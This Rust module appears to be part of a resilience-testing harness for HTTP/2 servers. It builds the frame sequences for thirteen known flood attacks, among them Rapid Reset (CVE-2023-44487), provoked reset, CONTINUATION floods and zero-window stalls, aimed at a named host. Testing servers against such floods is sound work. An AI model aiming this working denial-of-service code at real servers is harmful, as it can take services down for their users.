//! The ways in which a client of HTTP/2 can be a burden, each within the letter of the frames.
//!
//! Owns: what each sends, again and again. Never: a socket. Tested by `tests/hostile.rs`.

use crate::http2::encoder::{Encoder, Keep};
use crate::http2::frame::{self, Head, code, flag, kind};

/// Bytes of each piece of a head that never ends.
const PIECE_BYTES: usize = 1024;

/// Streams that are opened and left, at a time.
pub const LEFT_STREAMS: u32 = 100;

/// What is done without end.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Flood {
    /// Requests that are reset at once (CVE-2023-44487)
    RapidReset,
    /// Requests that the server has to reset (CVE-2025-8671)
    ProvokedReset,
    /// A head that is continued, 1 KiB at a time
    Continuation,
    /// A head that is continued by nothing
    EmptyContinuation,
    /// Empty SETTINGS, each to be acknowledged
    Settings,
    /// PING, each to be answered
    Ping,
    /// Content of nothing
    EmptyData,
    /// Content of a byte at a time
    SmallData,
    /// More window for the connection, a byte at a time
    WindowUpdate,
    /// PRIORITY of one stream
    Priority,
    /// Frames of a kind that nobody knows
    Unknown,
    /// Answers for which there is no window; ends by the server's deadlines, so only where it is named
    ZeroWindow,
    /// Answers that nobody reads; as before
    Unread,
}

impl Flood {
    /// Those that a budget ends soon.
    pub const SOON: [Flood; 11] = [
        Flood::RapidReset,
        Flood::ProvokedReset,
        Flood::Continuation,
        Flood::EmptyContinuation,
        Flood::Settings,
        Flood::Ping,
        Flood::EmptyData,
        Flood::SmallData,
        Flood::WindowUpdate,
        Flood::Priority,
        Flood::Unknown,
    ];

    /// It sends what it has to say once, and waits.
    pub fn waits(self) -> bool {
        matches!(self, Flood::ZeroWindow | Flood::Unread)
    }

    /// What each stream, and the connection, may receive.
    pub fn windows(self) -> (u32, u32) {
        match self {
            Flood::ZeroWindow => (0, frame::WINDOW),
            // As much as is asked for: it is the socket that fills.
            Flood::Unread => (1 << 30, 1 << 30),
            _ => (frame::WINDOW, frame::WINDOW),
        }
    }

    /// Writes what comes first, behind preface and settings.
    pub fn begin(self, host: &str, out: &mut Vec<u8>) {
        match self {
            Flood::Continuation | Flood::EmptyContinuation => {
                frame::write(kind::HEADERS, flag::END_STREAM, 1, &[], out);
            }
            Flood::EmptyData | Flood::SmallData | Flood::Priority => {
                frame::write_head(1, false, &block("POST", "/", host), out);
            }
            Flood::ZeroWindow | Flood::Unread => {
                let block = block("GET", "/?size=1048576", host);
                for number in 0..LEFT_STREAMS {
                    frame::write_head(2 * number + 1, true, &block, out);
                }
            }
            _ => {}
        }
    }

    /// Writes it once, for the so manieth time.
    pub fn write(self, number: u64, host: &str, out: &mut Vec<u8>) {
        let stream = 2 * number as u32 + 1;
        match self {
            Flood::RapidReset => {
                frame::write_head(stream, true, &block("GET", "/", host), out);
                frame::write_reset(stream, code::CANCEL, out);
            }
            Flood::ProvokedReset => {
                frame::write_head(stream, true, &block("GET", "/", host), out);
                frame::write_window(stream, 0, out);
            }
            Flood::Continuation => {
                // Fields of one byte each, as a head has them: literals without a name in the tables.
                let piece = [0, 1, b'x', 1, b'y'].repeat(PIECE_BYTES / 5);
                frame::write(kind::CONTINUATION, 0, 1, &piece, out);
            }
            Flood::EmptyContinuation => frame::write(kind::CONTINUATION, 0, 1, &[], out),
            Flood::Settings => frame::write_settings(&[], out),
            Flood::Ping => frame::write(kind::PING, 0, 0, &number.to_be_bytes(), out),
            Flood::EmptyData => frame::write(kind::DATA, 0, 1, &[], out),
            Flood::SmallData => frame::write(kind::DATA, 0, 1, b"x", out),
            Flood::WindowUpdate => frame::write_window(0, 1, out),
            Flood::Priority => frame::write(kind::PRIORITY, 0, 1, &[0, 0, 0, 0, 7], out),
            Flood::Unknown => {
                Head { length: 0, kind: 0xfe, flags: 0, stream: 0 }.write(out);
            }
            Flood::ZeroWindow | Flood::Unread => {}
        }
    }
}

/// A request's head, without a table.
fn block(method: &str, path: &str, host: &str) -> Vec<u8> {
    let (mut encoder, mut out) = (Encoder::new(), Vec::new());
    let fields = [(":method", method), (":scheme", "http"), (":authority", host), (":path", path)];
    for (name, value) in fields {
        encoder.field(name.as_bytes(), value.as_bytes(), Keep::No, &mut out);
    }
    out
}
